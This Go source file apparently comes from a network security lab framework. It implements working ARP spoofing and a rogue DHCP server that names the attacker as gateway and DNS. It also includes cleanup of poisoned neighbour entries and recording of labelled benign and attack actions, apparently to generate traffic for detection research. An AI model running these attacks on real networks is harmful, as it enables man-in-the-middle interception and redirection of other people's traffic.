package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/platelet-sdn/platelet/lab/agent"
	"github.com/platelet-sdn/platelet/lab/runner"
	"github.com/platelet-sdn/platelet/lab/wire"
	"github.com/vishvananda/netlink"
)

// arpSpoof tells a host and the gateway, over and over, that the other is at
// the attacker's hardware address, so that both send it what is for the other.
func arpSpoof(ctx context.Context, s *Scene) error {
	if !s.Near.Addr.IsValid() || !s.Gateway.Addr.IsValid() {
		return fmt.Errorf("%s has no host and gateway on its own link to come between", s.From[0].Node)
	}
	own := s.From[0].MAC
	host, err := s.nextHop(ctx, 0, s.Near.Addr)
	if err != nil {
		return err
	}
	gateway, err := s.nextHop(ctx, 0, s.Gateway.Addr)
	if err != nil {
		return err
	}
	both := [2][2]wire.Neighbour{
		{{MAC: own, Addr: s.Gateway.Addr}, {MAC: host, Addr: s.Near.Addr}},
		{{MAC: own, Addr: s.Near.Addr}, {MAC: gateway, Addr: s.Gateway.Addr}},
	}
	// Each of the two is told every second.
	return s.scan(ctx, 2, 1<<30, func(_ context.Context, i int) (probe, error) {
		claim, to := both[i%2][0], both[i%2][1]
		frame, err := wire.ARPReply(claim, to, own)
		return probe{0, frame, agent.Action{From: claim.Addr, To: to.Addr, Proto: "arp", Note: fmt.Sprintf("%v is at %v", claim.Addr, own)}}, err
	})
}

// spoofedReplies matches the half of the replies that is for the host: the
// other half goes to a gateway, which may have many interfaces.
func spoofedReplies(r Roles) string {
	filter := "ether src " + r.AttackerMAC + " and arp[6:2] == 2"
	if r.Near.Addr.Is4() {
		b := r.Near.Addr.As4()
		filter += fmt.Sprintf(" and arp[24:4] == %d", binary.BigEndian.Uint32(b[:]))
	}
	return filter
}

// healNeighbours lets hosts forget, after the attack, what ARP spoofing made
// them believe; by themselves they would notice only after a minute.
func healNeighbours(_ context.Context, lab *runner.Lab, r Roles) (func(context.Context) error, error) {
	return func(context.Context) error {
		var errs []error
		for _, h := range []Host{r.Near, r.Gateway} {
			if h.Node == "" {
				continue
			}
			errs = append(errs, onInterface(lab, h.Node, h.Iface, func(handle *netlink.Handle, l netlink.Link) error {
				list, err := handle.NeighList(l.Attrs().Index, netlink.FAMILY_V4)
				if err != nil {
					return fmt.Errorf("neighbours of %s: %w", h.Node, err)
				}
				var errs []error
				for _, n := range list {
					if ip, ok := netip.AddrFromSlice(n.IP); ok && n.HardwareAddr.String() == r.AttackerMAC && ip.Unmap() != r.AttackerAddr {
						errs = append(errs, handle.NeighDel(&n))
					}
				}
				return errors.Join(errs...)
			}))
		}
		return errors.Join(errs...)
	}, nil
}

// Ports of DHCP (RFC 2131).
const (
	dhcpServer, dhcpClient = 67, 68
	// dhcpOffers is how often the rogue server offers again, per second, to a
	// client that asked.
	dhcpOffers = 10
)

// rogueDHCP answers the clients of the link with offers that name the
// attacker as their gateway and resolver. A client of ours on a host of the
// link asks every second; whatever it is offered, nobody's configuration
// changes.
func rogueDHCP(ctx context.Context, s *Scene) error {
	ctx, cancel := context.WithCancel(ctx)
	var client sync.WaitGroup
	defer client.Wait()
	defer cancel()
	if s.Lab != nil && s.Near.Node != "" {
		station, err := agent.In(s.Lab, s.Near.Node)
		if err != nil {
			return err
		}
		asking, err := newDHCPClient(s, station)
		if err != nil {
			return err
		}
		client.Go(func() { asking.run(ctx) })
	}
	heard, err := wire.NewReceiver(s.From[0], 0x0800)
	if err != nil {
		return err
	}
	defer heard.Close()
	asked := make(chan *layers.DHCPv4)
	failed := make(chan error, 1)
	client.Go(func() { failed <- hear(ctx, heard, asked) })
	return s.offer(ctx, asked, failed)
}

// hear passes requests of clients on.
func hear(ctx context.Context, from *wire.Receiver, to chan<- *layers.DHCPv4) error {
	for {
		frame, err := from.Next(ctx, func(f []byte) bool { return isDHCP(f, dhcpServer) })
		if err != nil {
			return err
		}
		m := dhcpOf(frame)
		if m == nil || m.Operation != layers.DHCPOpRequest {
			continue
		}
		select {
		case to <- m:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// offer answers requests, and goes on offering to the last client.
func (s *Scene) offer(ctx context.Context, asked <-chan *layers.DHCPv4, failed <-chan error) error {
	w, err := s.sender(0)
	if err != nil {
		return err
	}
	rate := float64(dhcpOffers)
	if s.Rate > 0 {
		rate = s.Rate
	}
	again := time.NewTicker(time.Duration(float64(time.Second) / rate))
	defer again.Stop()
	var last *layers.DHCPv4
	for {
		kind := layers.DHCPMsgTypeOffer
		select {
		case <-ctx.Done():
			return ctx.Err()
		case err := <-failed:
			return err
		case last = <-asked:
			if dhcpKind(last) == layers.DHCPMsgTypeRequest {
				kind = layers.DHCPMsgTypeAck
			}
		case <-again.C:
			if last == nil {
				continue
			}
		}
		frame, err := s.dhcpAnswer(last, kind)
		if err != nil {
			return err
		}
		a := agent.Action{Agent: s.From[0].Node, Action: kind.String(), From: s.From[0].Addr(), To: broadcastAddr(), Proto: "udp", Port: dhcpClient,
			Packets: 1, Bytes: uint64(len(frame)), Note: "to " + last.ClientHWAddr.String()}
		if _, err := w.Send(frame); err != nil {
			return err
		}
		s.Record(a)
	}
}

// dhcpAnswer is an offer or acknowledgement that names the attacker as the
// gateway.
func (s *Scene) dhcpAnswer(to *layers.DHCPv4, kind layers.DHCPMsgType) ([]byte, error) {
	own := s.From[0]
	address := s.Near.Addr // the client's own, which is nobody else's
	if !address.IsValid() {
		address = own.Addr()
	}
	me := own.Addr().AsSlice()
	lease := binary.BigEndian.AppendUint32(nil, 600)
	m := &layers.DHCPv4{
		Operation: layers.DHCPOpReply, HardwareType: layers.LinkTypeEthernet, HardwareLen: 6, Xid: to.Xid, Flags: 0x8000,
		YourClientIP: address.AsSlice(), NextServerIP: me, ClientHWAddr: to.ClientHWAddr,
		Options: layers.DHCPOptions{
			layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(kind)}),
			layers.NewDHCPOption(layers.DHCPOptServerID, me),
			layers.NewDHCPOption(layers.DHCPOptLeaseTime, lease),
			layers.NewDHCPOption(layers.DHCPOptSubnetMask, []byte{255, 255, 255, 0}),
			layers.NewDHCPOption(layers.DHCPOptRouter, me),
			layers.NewDHCPOption(layers.DHCPOptDNS, me),
		},
	}
	p := wire.Path{SrcMAC: own.MAC, DstMAC: wire.Broadcast(), Src: own.Addr(), Dst: broadcastAddr()}
	return dhcpFrame(p, dhcpServer, dhcpClient, m)
}

func broadcastAddr() netip.Addr { return netip.AddrFrom4([4]byte{255, 255, 255, 255}) }

// dhcpFrame puts a message into a frame.
func dhcpFrame(p wire.Path, from, to uint16, m *layers.DHCPv4) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	if err := m.SerializeTo(buf, gopacket.SerializeOptions{FixLengths: true}); err != nil {
		return nil, fmt.Errorf("DHCP message: %w", err)
	}
	return p.UDP(from, to, buf.Bytes())
}

// isDHCP is a quick look at a frame.
func isDHCP(f []byte, port uint16) bool {
	return len(f) >= 42+240 && f[12] == 8 && f[13] == 0 && f[14] == 0x45 && f[23] == 17 && binary.BigEndian.Uint16(f[36:]) == port
}

// dhcpOf decodes the message in a frame; nil when there is none.
func dhcpOf(frame []byte) *layers.DHCPv4 {
	p := gopacket.NewPacket(frame, layers.LayerTypeEthernet, gopacket.Default)
	m, _ := p.Layer(layers.LayerTypeDHCPv4).(*layers.DHCPv4)
	return m
}

// dhcpKind is a message's type.
func dhcpKind(m *layers.DHCPv4) layers.DHCPMsgType {
	for _, o := range m.Options {
		if o.Type == layers.DHCPOptMessageType && len(o.Data) == 1 {
			return layers.DHCPMsgType(o.Data[0])
		}
	}
	return layers.DHCPMsgTypeUnspecified
}

// dhcpAsk asks as a client would. It is benign, and its configuration never
// changes.
type dhcpAsk struct {
	scene   *Scene
	station *agent.Station
	sender  *wire.Sender
	heard   *wire.Receiver
}

// newDHCPClient makes a client with a budget of its own.
func newDHCPClient(s *Scene, station *agent.Station) (*dhcpAsk, error) {
	budget, err := agent.NewBudget(s.Packets, max(time.Second, s.Budget.Left()))
	if err != nil {
		return nil, err
	}
	sender, err := wire.NewSender(station, budget)
	if err != nil {
		return nil, err
	}
	heard, err := wire.NewReceiver(station, 0x0800)
	if err != nil {
		return nil, errors.Join(err, sender.Close())
	}
	return &dhcpAsk{s, station, sender, heard}, nil
}

// run discovers every second, and requests what it is offered, until the end
// of the context or its budget.
func (c *dhcpAsk) run(ctx context.Context) {
	defer c.sender.Close()
	defer c.heard.Close()
	for xid := uint32(1); ctx.Err() == nil; xid++ {
		if !c.send(layers.DHCPMsgTypeDiscover, xid, nil) {
			return
		}
		wait, cancel := context.WithTimeout(ctx, time.Second)
		var offer *layers.DHCPv4
		frame, err := c.heard.Next(wait, func(f []byte) bool { return isDHCP(f, dhcpClient) })
		if err == nil {
			offer = dhcpOf(frame)
		}
		if offer != nil && offer.Xid == xid && dhcpKind(offer) == layers.DHCPMsgTypeOffer {
			c.send(layers.DHCPMsgTypeRequest, xid, offer.YourClientIP)
		}
		<-wait.Done()
		cancel()
	}
}

// send sends a message, and reports whether it could.
func (c *dhcpAsk) send(kind layers.DHCPMsgType, xid uint32, want net.IP) bool {
	m := &layers.DHCPv4{
		Operation: layers.DHCPOpRequest, HardwareType: layers.LinkTypeEthernet, HardwareLen: 6, Xid: xid, Flags: 0x8000, ClientHWAddr: c.station.MAC,
		Options: layers.DHCPOptions{layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(kind)})},
	}
	if want != nil {
		m.Options = append(m.Options, layers.NewDHCPOption(layers.DHCPOptRequestIP, want))
	}
	p := wire.Path{SrcMAC: c.station.MAC, DstMAC: wire.Broadcast(), Src: netip.IPv4Unspecified(), Dst: broadcastAddr()}
	frame, err := dhcpFrame(p, dhcpClient, dhcpServer, m)
	if err != nil {
		return false
	}
	if _, err := c.sender.Send(frame); err != nil {
		return false
	}
	c.scene.Truth.Record(agent.Action{Agent: c.station.Node, Role: agent.Benign, Behaviour: "dhcp-client", Action: kind.String(),
		To: broadcastAddr(), Proto: "udp", Port: dhcpServer, Packets: 1, Bytes: uint64(len(frame))})
	return true
}
